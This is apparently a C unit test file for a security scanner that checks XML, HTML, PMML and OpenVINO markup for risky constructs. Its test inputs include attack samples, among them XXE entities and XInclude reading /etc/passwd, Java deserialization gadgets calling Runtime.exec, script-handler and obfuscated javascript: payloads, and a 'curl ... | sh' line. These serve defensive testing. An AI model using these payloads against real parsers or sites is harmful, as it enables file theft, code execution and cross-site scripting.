/* XML and HTML: what is well-formed, what acts when it is read, what a model in XML names. Also the check that judges
 * the layers and functions. */
#include "support/cm.h"

#include "check/markup.h"
#include "format/formats.h"
#include "support/events.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define S(s) { (const uint8_t *)("" s), sizeof(s) - 1 }

static const struct row {
	const char *what;
	struct gh_span in;
	enum gh_rc rc;
	const char *has, *hasnot;
} xml[] = {
	{ "an element", S("<a/>"), GH_OK, "claim 0+4 struct", "anomaly" },
	{ "everything that is usual",
	  S("\xef\xbb\xbf<?xml version='1.0' encoding='utf-8'?>\n<!-- c --><?p i?><a b=\"1\" "
	    "c='2'><![CDATA[<x>]]>t&amp;<b/></a>\n"),
	  GH_OK, NULL, "anomaly" },
	{ "no root", S("<!-- only a comment -->"), GH_E_MALFORMED, "GH-XML-0001", NULL },
	{ "two roots", S("<a/><b/>"), GH_E_MALFORMED, "a second root element", NULL },
	{ "text outside", S("<a/>x"), GH_E_MALFORMED, "text outside of the root element", NULL },
	{ "tags that cross", S("<a><b></a></b>"), GH_E_MALFORMED, "matches no start tag", NULL },
	{ "an attribute twice", S("<a x='1' x='2'/>"), GH_E_MALFORMED, "attributes are malformed", NULL },
	{ "an attribute without quotes", S("<a x=1/>"), GH_E_MALFORMED, "attributes are malformed", NULL },
	{ "cut", S("<a><b>text"), GH_E_MALFORMED, "it ends inside an element", NULL },
	{ "a comment without end", S("<a><!-- x</a>"), GH_E_MALFORMED, "without an end", NULL },
	{ "an external entity", S("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"), GH_OK,
	  "GH-XML-0003 13+39 entity \"x\" is file:///etc/passwd", NULL },
	{ "an external parameter entity", S("<!DOCTYPE a [<!ENTITY % x PUBLIC 'p' 'http://h/'> %x;]><a/>"), GH_OK,
	  "GH-XML-0003", NULL },
	{ "a type of the W3C", S("<!DOCTYPE svg PUBLIC 'p' 'http://www.w3.org/x.dtd'><svg/>"), GH_OK, NULL, "anomaly" },
	{ "a type from elsewhere", S("<!DOCTYPE svg SYSTEM 'http://h.example/x.dtd'><svg/>"), GH_OK, "GH-XML-0004",
	  NULL },
	{ "a notation from elsewhere", S("<!DOCTYPE a [<!NOTATION n SYSTEM 'x'><!ELEMENT a ANY>]><a/>"), GH_OK,
	  "GH-XML-0004", NULL },
	{ "an entity of text", S("<!DOCTYPE a [<!ENTITY n 'name'>]><a>&n;, &n; and so on</a>"), GH_OK, NULL,
	  "anomaly" },
	{ "an entity of markup", S("<!DOCTYPE a [<!ENTITY n '<b/>'>]><a>&n;</a>"), GH_OK, "GH-XML-0006", NULL },
	{ "an entity declared later", S("<!DOCTYPE a [<!ENTITY n '&m;'><!ENTITY m 'x'>]><a>&n;</a>"), GH_OK,
	  "GH-XML-0006", NULL },
	{ "an entity that is not declared", S("<a>what is &this; here</a>"), GH_OK, "GH-XML-0006", NULL },
	{ "inclusion", S("<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/></a>"),
	  GH_OK, "GH-XML-0007", NULL },
	{ "a style sheet", S("<?xml-stylesheet href='x.xsl'?><a/>"), GH_OK, "GH-XML-0008", NULL },
	{ "a picture", S("<svg><a href='#x'/><image href='a.png'/></svg>"), GH_OK, NULL, "anomaly" },
	{ "a picture with a script", S("<svg><script>go()</script></svg>"), GH_OK, "GH-XML-0009", NULL },
	{ "a picture with a handler", S("<svg onload='go()'/>"), GH_OK, "GH-XML-0009", NULL },
	{ "an address that is a script", S("<svg><a href=' java&#115;cript:go()'/></svg>"), GH_OK, "GH-XML-0009",
	  NULL },
	{ "a script in a name space", S("<m><x:script xmlns:x='http://www.w3.org/2000/svg'>go()</x:script></m>"), GH_OK,
	  "GH-XML-0009", NULL },
	{ "a picture from elsewhere", S("<svg><image href='http://h/p.png'/></svg>"), GH_OK, "GH-XML-0012", NULL },
	{ "a page with a script", S("<html><script>go()</script></html>"), GH_OK, "GH-XML-0013", "GH-XML-0009" },
	{ "XMLDecoder", S("<java class='java.beans.XMLDecoder'/>"), GH_OK, "GH-XML-0010", NULL },
	{ "XStream", S("<java.util.PriorityQueue/>"), GH_OK, "GH-XML-0010", NULL },
	{ "Spring", S("<beans><bean class='java.lang.ProcessBuilder'/></beans>"), GH_OK, "GH-XML-0010", NULL },
	{ "a style sheet that calls Java",
	  S("<xsl:stylesheet xmlns:rt='http://xml.apache.org/xalan/java/x' xmlns:xsl='x'/>"), GH_OK, "GH-XML-0010",
	  NULL },
	{ "another encoding", S("<?xml version=\"1.0\" encoding=\"UTF-7\"?><a/>"), GH_OK, "GH-XML-0011 0+38 UTF-7",
	  NULL },
	{ "a PMML function", S("<PMML><Apply function='java.lang.Runtime.exec'/></PMML>"), GH_OK,
	  "call operation .java.lang.Runtime.exec", NULL },
	{ "a PMML function of its own", S("<PMML><DefineFunction name='f'/><Apply function='f'/></PMML>"), GH_OK, NULL,
	  "call" },
	{ "a PMML table", S("<PMML><TableLocator/></PMML>"), GH_OK, "reference path \"TableLocator\"", NULL },
	{ "an OpenVINO constant", S("<net><layer type='Const' version='opset1'/><data offset='4' size='8'/></net>"),
	  GH_OK, "reference data \"x.bin\" from \"constants\" data 4+8", NULL },
	{ "an OpenVINO constant before the file", S("<net><data offset='-8' size='8'/></net>"), GH_OK, "GH-XML-0014",
	  "reference" },
	{ "an OpenVINO constant beyond anything", S("<net><data offset='99999999999999999999' size='8'/></net>"), GH_OK,
	  "GH-XML-0014", "reference" },
	{ "a style sheet that opens files",
	  S("<x:stylesheet xmlns:x='x'><x:value-of select=\"document('/etc/passwd')\"/></x:stylesheet>"), GH_OK,
	  "GH-XML-0007", NULL },
	{ "a document type without a declaration of XML",
	  S("<!DOCTYPE PMML [<!ENTITY x SYSTEM 'file:///x'>]><PMML>&x;</PMML>"), GH_OK, "GH-XML-0003", NULL },
	{ "an OpenVINO library", S("<net><layer type='X' library='/tmp/e.so'/></net>"), GH_OK,
	  "reference path \"/tmp/e.so\" from \"extension library\"", NULL },
	{ "code in a value", S("<a b=\"import os; os.system('id')\"/>"), GH_OK, "GH-XML-0201", NULL },
	{ "commands in a text", S("<a>curl http://x.example/a | sh</a>"), GH_OK, "GH-XML-0202", NULL },
	{ "a script in a section", S("<a><![CDATA[<script>alert(1)</script>]]></a>"), GH_OK, "GH-XML-0203", NULL },
	{ "decoding in a comment", S("<a><!-- exec(__import__('base64').b64decode('aW1wb3J0IG9z')) --></a>"), GH_OK,
	  "GH-XML-0204", NULL },
	{ "an address", S("<a webhook='https://webhook.site/abc-def'/>"), GH_OK, "GH-XML-0205", NULL },
	{ "a credential", S("<a>AKIAIOSFODNN7ABCDEFG</a>"), GH_OK, "GH-XML-0206", NULL },
};

static const struct row html[] = {
	{ "a page", S("<!DOCTYPE html><p class=a>x <b>y</b> <a href='https://h/'>z</a><img src=//h/p.png></p>"), GH_OK,
	  "claim 0+86 data", "anomaly" },
	{ "a script", S("<p><SCRIPT>go()</SCRIPT></p>"), GH_OK, "GH-HTML-0001", NULL },
	{ "a script from elsewhere", S("<script src=https://h/a.js></script>"), GH_OK, "GH-HTML-0002", NULL },
	{ "a handler", S("<img src=x onerror=go()>"), GH_OK, "GH-HTML-0003", NULL },
	{ "a handler without blanks", S("<svg/onload=go()>"), GH_OK, "GH-HTML-0003", NULL },
	{ "an address that is a script", S("<a href=\"jav&#x09;ascript&colon;go()\">x</a>"), GH_OK, "GH-HTML-0004",
	  NULL },
	{ "a frame", S("<iframe src='https://h/'></iframe>"), GH_OK, "GH-HTML-0005", NULL },
	{ "a form", S("<form action='https://h/'><input></form>"), GH_OK, "GH-HTML-0005", NULL },
	{ "a redirection", S("<meta http-equiv=refresh content='0; url=https://h/'>"), GH_OK, "GH-HTML-0006", NULL },
	{ "entities", S("<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///x'>]><p>&x;</p>"), GH_OK, "GH-HTML-0008", NULL },
	{ "a template", S("<p>{{ ''.__class__ }}</p>"), GH_OK, "text metadata", NULL },
	{ "a comment", S("<!-- <script>go()</script> -->"), GH_OK, NULL, "anomaly" },
	{ "a tag that the end cuts", S("<p>x</p></"), GH_OK, NULL, "anomaly" },
	{ "text that only looks like it", S("if a <b and c> d: <1, \"<script\" as text"), GH_OK, NULL, "anomaly" },
};

static void walk_rows(const struct gh_fmt *fmt, const struct row *rows, size_t n, const char *name)
{
	for (size_t i = 0; i < n; i++)
		for (int unstable = 0; unstable < 2; unstable++) {
			struct gh_events ev;
			gh_events_walk(&ev, fmt, rows[i].in, name, unstable != 0);
			if (ev.rc != rows[i].rc || (rows[i].rc == GH_OK && !ev.gapless) ||
			    (rows[i].has != NULL && !gh_events_has(&ev, rows[i].has)) ||
			    (rows[i].hasnot != NULL && gh_events_has(&ev, rows[i].hasnot)))
				fail_msg("%s: rc %d %s\n%s", rows[i].what, ev.rc, ev.why, gh_buf_cstr(&ev.log));
			gh_events_free(&ev);
		}
}

static void documents(void **state)
{
	(void)state;
	walk_rows(&gh_fmt_xml, xml, GH_ROWS(xml), "x.xml");
	walk_rows(&gh_fmt_html, html, GH_ROWS(html), "x.html");
}

/* A document longer than any window: text and comments in pieces, a tag that is too long, depth, many entities. */
static void large(void **state)
{
	(void)state;
	enum { N = 3 << 20 };
	char *p = malloc(N + 64);
	assert_non_null(p);
	static const struct {
		const char *head, *tail;
		enum gh_rc rc;
		const char *say;
	} rows[] = {
		{ "<a>", "</a>", GH_OK, NULL },
		{ "<a><!--", "--></a>", GH_OK, NULL },
		{ "<a><![CDATA[", "]]></a>", GH_OK, NULL },
		{ "<a b='", "'/>", GH_E_LIMIT, "GH-XML-0002" },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		size_t n = (size_t)sprintf(p, "%s", rows[i].head);
		memset(p + n, 'x', N);
		n += N;
		n += (size_t)sprintf(p + n, "%s", rows[i].tail);
		struct gh_events ev;
		gh_events_walk(&ev, &gh_fmt_xml, (struct gh_span){ (uint8_t *)p, n }, "x.xml", false);
		if (ev.rc != rows[i].rc || (rows[i].say != NULL && !gh_events_has(&ev, rows[i].say)))
			fail_msg("%s: rc %d %s", rows[i].head, ev.rc, ev.why);
		gh_events_free(&ev);
	}
	size_t n = 0;
	for (int i = 0; i < 5000; i++)
		n += (size_t)sprintf(p + n, "<a>");
	struct gh_events ev;
	gh_events_walk(&ev, &gh_fmt_xml, (struct gh_span){ (uint8_t *)p, n }, "x.xml", false);
	assert_true(ev.rc == GH_E_LIMIT && gh_events_has(&ev, "GH-XML-0002"));
	gh_events_free(&ev);
	memset(p, '<', N); /* of a page: a tag that never ends */
	p[1] = 'a';
	memset(p + 2, ' ', N - 2);
	gh_events_walk(&ev, &gh_fmt_html, (struct gh_span){ (uint8_t *)p, N }, "x.html", false);
	assert_true(ev.rc == GH_OK && gh_events_has(&ev, "GH-HTML-0007"));
	gh_events_free(&ev);
	free(p);
}

static void seeds(void **state)
{
	(void)state;
	static const struct {
		const char *path, *say;
	} rows[] = {
		{ "tests/fuzz/seeds/xml/laughs", "GH-XML-0005" },
		{ "tests/fuzz/seeds/xml/script", "GH-XML-0009" },
		{ "tests/fuzz/seeds/xml/library", "extension library" },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		struct gh_span in = gh_test_file(rows[i].path);
		struct gh_events ev;
		assert_non_null(in.p);
		gh_events_walk(&ev, &gh_fmt_xml, in, "x.xml", true);
		if (!gh_events_has(&ev, rows[i].say))
			fail_msg("%s: %s", rows[i].path, gh_buf_cstr(&ev.log));
		gh_events_free(&ev);
		free((void *)(uintptr_t)in.p);
	}
}

/* ---- layers and functions ---------------------------------------------------------------------------------------------- */

static char found[64];
static void find(struct gh_scene *s, const struct gh_rule *r, struct gh_range at, const char *text)
{
	(void)s, (void)at, (void)text;
	(void)snprintf(found, sizeof found, "%s", r->id);
}

static void judged(void **state)
{
	(void)state;
	static const struct {
		const char *system, *module, *name, *say;
	} calls[] = {
		{ "openvino", "opset1", "MatMul", "" },
		{ "openvino", "", "Convolution", "" },
		{ "openvino", "opset13", "ScaledDotProductAttention", "" },
		{ "openvino", "opset1", "Mine", "GH-MKP-0003" },
		{ "openvino", "extension", "MatMul", "GH-MKP-0002" },
		{ "openvino", "opsetx", "MatMul", "GH-MKP-0002" },
		{ "pmml", "", "+", "" },
		{ "pmml", "", "isMissing", "" },
		{ "pmml", "", "mine", "GH-MKP-0005" },
		{ "pmml", "", "java.lang.Runtime.exec", "GH-MKP-0004" },
		{ "python", "os", "system", "" },
	};
	for (size_t i = 0; i < GH_ROWS(calls); i++) {
		struct gh_call c = { .how = GH_CALL_OPERATION,
				     .system = calls[i].system,
				     .module = gh_span_str(calls[i].module),
				     .name = gh_span_str(calls[i].name),
				     .resolved = true };
		struct gh_event ev = { .kind = GH_EV_CALL, .u.call = &c };
		struct gh_scene s = { .format = "xml", .find = find };
		found[0] = '\0';
		gh_check_markup.on(&s, &ev);
		if (strcmp(found, calls[i].say) != 0)
			fail_msg("%s %s: %s", calls[i].system, calls[i].name, found);
	}
	static const struct {
		const char *format, *from, *say;
	} refs[] = {
		{ "xml", "extension library", "GH-MKP-0001" },
		{ "xml", "a table elsewhere", "GH-MKP-0006" },
		{ "json", "extension library", "" },
	};
	for (size_t i = 0; i < GH_ROWS(refs); i++) {
		struct gh_reference r = { .kind = GH_REF_PATH,
					  .target = GH_SPAN("x.so"),
					  .from = gh_span_str(refs[i].from) };
		struct gh_event ev = { .kind = GH_EV_REFERENCE, .u.reference = &r };
		struct gh_scene s = { .format = refs[i].format, .find = find };
		found[0] = '\0';
		gh_check_markup.on(&s, &ev);
		assert_string_equal(found, refs[i].say);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(documents), cmocka_unit_test(large),
					    cmocka_unit_test(seeds), cmocka_unit_test(judged) };
	return cmocka_run_group_tests(tests, NULL, NULL);
}
